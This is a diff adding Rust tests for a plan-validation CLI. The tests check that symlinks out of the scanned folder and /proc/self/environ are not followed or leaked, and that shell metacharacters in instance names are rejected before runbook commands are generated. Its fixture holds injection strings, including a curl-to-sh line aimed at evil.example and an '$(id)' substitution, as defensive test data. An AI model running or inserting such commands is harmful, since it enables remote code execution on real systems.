@@ -1,0 +1,175 @@
+//! Issue 15: nothing leaked, nothing injected. Hostile trees (symlinks out of the walked
+//! folder, `/proc` files), hostile plans (shell metacharacters in instance names).
+
+use std::path::Path;
+
+use crate::common::{imsplan, path};
+
+/// Run `imsplan ARGS`; (exit code, stdout and stderr together, stderr).
+fn run(args: &[&str]) -> (i32, String, String) {
+    let out = imsplan()
+        .args(args)
+        .timeout(std::time::Duration::from_secs(20))
+        .output()
+        .expect("imsplan runs");
+    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
+    (
+        out.status.code().unwrap_or(-1),
+        String::from_utf8_lossy(&out.stdout).into_owned() + &stderr,
+        stderr,
+    )
+}
+
+fn s(p: &Path) -> &str {
+    p.to_str().expect("utf-8 path")
+}
+
+const MARKER: &str = "leak-marker-7f3a9c";
+
+/// A tree with one good plan and links out of it: to a text file (that would parse as
+/// YAML and be quoted in snippets), to a folder, and to `/proc/self/environ`.
+#[cfg(unix)]
+#[test]
+fn walks_follow_no_link_out_of_the_root() {
+    use std::os::unix::fs::symlink;
+    let dir = tempfile::tempdir().expect("tempdir");
+    let outside = dir.path().join("outside");
+    std::fs::create_dir(&outside).expect("mkdir");
+    std::fs::write(
+        outside.join("creds.yaml"),
+        format!("aws_key: {MARKER}\nother: {MARKER}\n"),
+    )
+    .expect("write");
+    let root = dir.path().join("plans");
+    std::fs::create_dir_all(root.join("sub")).expect("mkdir");
+    std::fs::copy(path("plans/acme-managed.yaml"), root.join("good.yaml")).expect("copy");
+    symlink(outside.join("creds.yaml"), root.join("creds.yaml")).expect("symlink");
+    symlink(&outside, root.join("elsewhere")).expect("symlink");
+    symlink("/proc/self/environ", root.join("env.yaml")).expect("symlink");
+    // Links inside the root are followed (a file reached twice is checked once).
+    symlink("../good.yaml", root.join("sub/again.yaml")).expect("symlink");
+    symlink("..", root.join("sub/up")).expect("symlink");
+    for format in ["human", "json", "short"] {
+        let mut cmd = imsplan();
+        let out = cmd
+            .env("IMSPLAN_TEST_SECRET", MARKER)
+            .args(["validate", "--format", format, s(&root)])
+            .timeout(std::time::Duration::from_secs(20))
+            .output()
+            .expect("runs");
+        // The human report goes to stderr, the others to stdout: read both.
+        let stdout = String::from_utf8_lossy(&out.stdout) + String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(1), "{format}: {stdout}");
+        assert!(!stdout.contains(MARKER), "{format} leaked: {stdout}");
+        assert!(!stdout.contains("PATH="), "{format} leaked the environment");
+        for link in ["creds.yaml", "elsewhere", "env.yaml"] {
+            assert!(
+                stdout.contains(link) && stdout.contains("not followed"),
+                "{format}: {link} not reported: {stdout}"
+            );
+        }
+        if format == "short" {
+            // good.yaml once (sub/again.yaml is the same file), three refused links.
+            let errors = stdout.lines().filter(|l| l.contains("error[P001]")).count();
+            assert_eq!(errors, 3, "{stdout}");
+        }
+    }
+}
+
+/// A file that is not a plan (NUL-separated `/proc` data, binary) is located, never shown.
+#[cfg(target_os = "linux")]
+#[test]
+fn proc_files_are_located_not_shown() {
+    let out = imsplan()
+        .env("IMSPLAN_TEST_SECRET", MARKER)
+        .args(["validate", "/proc/self/environ"])
+        .output()
+        .expect("runs");
+    let stdout = String::from_utf8_lossy(&out.stdout) + String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(1), "{stdout}");
+    assert!(!stdout.contains(MARKER), "leaked: {stdout}");
+    assert!(
+        stdout.contains("/proc/self/environ:1:") && stdout.contains("error[P001]: not a plan"),
+        "{stdout}"
+    );
+}
+
+#[test]
+fn non_plan_files_show_their_location_only() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let nul = dir.path().join("nul.yaml");
+    std::fs::write(&nul, format!("A={MARKER}\0B={MARKER}\0")).expect("write");
+    let long = dir.path().join("long.yaml");
+    std::fs::write(&long, format!("x: [{}\n", MARKER.repeat(200))).expect("write");
+    for (file, code) in [(&nul, "not a plan"), (&long, "invalid YAML")] {
+        let (exit, out, _) = run(&["validate", s(file)]);
+        assert_eq!(exit, 1, "{out}");
+        assert!(out.contains(code), "{out}");
+        assert!(!out.contains(MARKER), "content shown: {out}");
+        assert!(out.len() < 2_000, "{} bytes of output", out.len());
+    }
+    // A plan with a syntax error on a normal line still gets its snippet.
+    let short = dir.path().join("short.yaml");
+    std::fs::write(&short, "format: 1\nname: [unclosed\n").expect("write");
+    let (_, out, _) = run(&["validate", s(&short)]);
+    assert!(out.contains("name: [unclosed"), "{out}");
+}
+
+const INJECTED: &str = r#"format: 1
+name: inj
+environments:
+  stage:
+    role: stage
+    hosting: on-premise
+    version: 7.4.1
+    instances: ["x; curl http://evil.example/p | sh; #", "a$(id)b", "-rf", ok-1]
+steps:
+  - id: users-stage
+    env: stage
+    kind: migrate-users
+"#;
+
+#[test]
+fn instance_names_with_shell_syntax_are_p002() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let plan = dir.path().join("inj.yaml");
+    std::fs::write(&plan, INJECTED).expect("write");
+    let (code, out, _) = run(&["validate", "--format", "short", s(&plan)]);
+    assert_eq!(code, 1, "{out}");
+    let p002: Vec<_> = out
+        .lines()
+        .filter(|l| l.contains("error[P002]") && l.contains("is not a valid instance name"))
+        .collect();
+    assert_eq!(p002.len(), 3, "{out}");
+    assert!(!out.contains("`ok-1`"), "{out}");
+    // No runbook for it.
+    let (code, md, _) = run(&["runbook", s(&plan)]);
+    assert_ne!(code, 0);
+    assert!(!md.contains("```sh"), "{md}");
+}
+
+#[test]
+fn runbook_shell_lines_name_valid_instances_bare() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let plan = dir.path().join("ok.yaml");
+    let text = INJECTED
+        .replace(
+            r#"["x; curl http://evil.example/p | sh; #", "a$(id)b", "-rf", ok-1]"#,
+            "[ok-1, Mkt_2]",
+        )
+        .replace(
+            "kind: migrate-users",
+            "kind: migrate-users\n  - id: ops-stage\n    env: stage\n    kind: migrate-operators",
+        );
+    std::fs::write(&plan, text).expect("write");
+    let (code, md, err) = run(&["runbook", s(&plan)]);
+    assert_eq!(code, 0, "{err}{md}");
+    assert!(
+        md.contains("nlserver config -instance:ok-1 -setimsoauth"),
+        "{md}"
+    );
+    assert!(
+        md.contains("nlserver config -instance:Mkt_2 -setimsoauth"),
+        "{md}"
+    );
+}
